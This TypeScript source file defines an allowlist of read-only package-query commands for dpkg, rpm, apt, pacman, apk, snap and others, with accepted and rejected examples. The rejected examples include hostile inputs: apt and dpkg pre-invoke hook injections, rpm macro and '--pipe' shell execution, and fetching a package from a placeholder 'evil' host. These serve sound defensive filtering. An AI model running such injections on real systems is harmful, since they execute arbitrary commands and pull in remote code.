import {
  identifier,
  matching,
  oneOf,
  type CommandShape,
  type TableEntry,
  wordsOf,
} from '../command-shape.ts';

const packageName = matching(/^[A-Za-z0-9][A-Za-z0-9_.+:@/=*?~-]*$/, 'a package');
const dpkgFormat = matching(/^[^@`]*$/, 'a format');
const rpmFormat = matching(/^([^%(]|%-?\d*\{[A-Za-z:_]+\})*$/, 'a format of plain tags');

/* Else apt writes what it has read into its cache, when root asks. */
const noAptCache = ['-o', 'Dir::Cache::pkgcache=', '-o', 'Dir::Cache::srcpkgcache='];
const aptLead = {
  valueOptions: { '-o': oneOf('Dir::Cache::pkgcache=', 'Dir::Cache::srcpkgcache=') },
};

function aptWords(cmd: string, subs: readonly string[]): CommandShape[] {
  return subs.map((sub) => ({
    cmd,
    lead: aptLead,
    sub: [sub],
    inject: noAptCache,
    switches: 'a',
    longExact: [
      '--installed',
      '--upgradable',
      '--upgradeable',
      '--all-versions',
      '--names-only',
      '--no-all-versions',
    ],
    operands: [packageName],
    match: [`${cmd} ${sub} nginx`],
    notMatch: [
      `${cmd} -o APT::Update::Pre-Invoke::=id ${sub} x`,
      `${cmd} ${sub} -c /tmp/x y`,
      `${cmd} -c=/tmp/x ${sub}`,
    ],
  }));
}

/** What is installed. */
export const packageCommands: readonly TableEntry[] = [
  {
    cmd: 'dpkg',
    switches: 'lsLSC',
    longExact: wordsOf(
      '--list --status --listfiles --search --get-selections --print-architecture ' +
        '--audit --print-foreign-architectures --no-pager',
    ),
    require: [
      wordsOf(
        '-l -s -L -S -C --list --status --listfiles --search --get-selections ' +
          '--print-architecture --audit --print-foreign-architectures',
      ),
    ],
    operands: [matching(/^[A-Za-z0-9/][A-Za-z0-9_.+:@/=*?~-]*$/, 'a package or file')],
    match: ['dpkg -l', 'dpkg -s nginx', 'dpkg -S /usr/bin/env', 'dpkg --get-selections'],
    notMatch: [
      'dpkg -i /tmp/x.deb',
      'dpkg -r nginx',
      'dpkg --configure -a',
      'dpkg --admindir=/tmp -l',
      'dpkg -P x',
      'dpkg --root=/tmp -l',
      'dpkg --pre-invoke=id -l',
    ],
  },
  {
    cmd: 'dpkg-query',
    switches: 'lsLSW',
    longExact: ['--show', '--list', '--status', '--no-pager'],
    valueOptions: { '-f': dpkgFormat, '--showformat': dpkgFormat },
    operands: [packageName],
    match: ["dpkg-query -W -f '${Package} ${Version}\\n'", 'dpkg-query -l'],
    notMatch: ['dpkg-query --admindir=/tmp -l', 'dpkg-query --control-show x postinst'],
  },
  ...aptWords('apt', ['list', 'show', 'policy']),
  ...aptWords('apt-cache', wordsOf('policy show search depends rdepends madison showpkg')),
  {
    cmd: 'apt-mark',
    operands: [oneOf('showhold', 'showmanual', 'showauto'), packageName],
    min: 1,
    match: ['apt-mark showhold'],
    notMatch: ['apt-mark hold x', 'apt-get install -y nginx', 'apt update'],
  },
  {
    cmd: 'rpm',
    switches: 'qailcdfRv',
    longExact: wordsOf(
      '--query --all --info --list --file --last --changelog --requires --provides ' +
        '--configfiles --docfiles -qa -qi -ql -qf',
    ),
    valueOptions: { '--qf': rpmFormat, '--queryformat': rpmFormat },
    require: [['-q', '--query', '-qa', '-qi', '-ql', '-qf']],
    operands: [matching(/^[A-Za-z0-9/][A-Za-z0-9_.+:@/~-]*$/, 'a package or file')],
    match: [
      'rpm -qa',
      'rpm -qi nginx',
      'rpm -qf /usr/bin/env',
      "rpm -qa --qf '%{NAME} %{VERSION}\\n'",
      'rpm -qa --last',
    ],
    notMatch: [
      "rpm --eval '%(id)'",
      "rpm -qa --pipe 'sh -c id'",
      'rpm -i x',
      'rpm -e x',
      'rpm -qa --define x',
      "rpm -q --qf '%(id)' x",
      'rpm -qp http://evil/x.rpm',
      'rpm -q --specfile x',
      'rpm -q http://evil/x.rpm',
      'rpm -V x',
    ],
    check: ({ operands }) =>
      operands.some(({ text }) => text.includes('://')) ? 'it would fetch that' : undefined,
  },
  {
    cmd: 'pacman',
    longExact: ['-Q', '-Qi', '-Ql', '-Qe', '-Qs', '-Qo', '-Qm', '-Qdt'],
    require: [['-Q', '-Qi', '-Ql', '-Qe', '-Qs', '-Qo', '-Qm', '-Qdt']],
    operands: [packageName],
    match: ['pacman -Q', 'pacman -Qi nginx'],
    notMatch: ['pacman -Syu', 'pacman -R x', 'pacman -Q --dbpath /tmp', 'pacman -S x'],
  },
  {
    cmd: 'apk',
    operands: [oneOf('info', 'version'), packageName],
    switches: 'v',
    min: 1,
    match: ['apk info', 'apk info nginx'],
    notMatch: ['apk add x', 'apk info -p /tmp', 'apk del x'],
  },
  {
    cmd: 'snap',
    sub: ['list'],
    longExact: ['--all'],
    operands: [packageName],
    match: ['snap list'],
    notMatch: ['snap install x', 'snap info x', 'snap set x y=z'],
  },
  {
    cmd: 'snap',
    operands: [oneOf('version', 'services', 'changes')],
    min: 1,
    max: 1,
    match: ['snap version', 'snap services'],
    notMatch: ['snap refresh'],
  },
  {
    cmd: 'flatpak',
    sub: ['list'],
    longExact: ['--app', '--runtime'],
    match: ['flatpak list'],
    notMatch: ['flatpak run x'],
  },
  {
    cmd: 'update-alternatives',
    longExact: [],
    valueOptions: { '--display': identifier, '--list': identifier, '--query': identifier },
    require: [['--display', '--list', '--query']],
    match: ['update-alternatives --display editor'],
    notMatch: ['update-alternatives --config editor', 'update-alternatives --altdir /tmp --list x'],
  },
  {
    cmd: 'needs-restarting',
    switches: 'r',
    match: ['needs-restarting -r'],
    notMatch: ['needs-restarting --x'],
  },
];
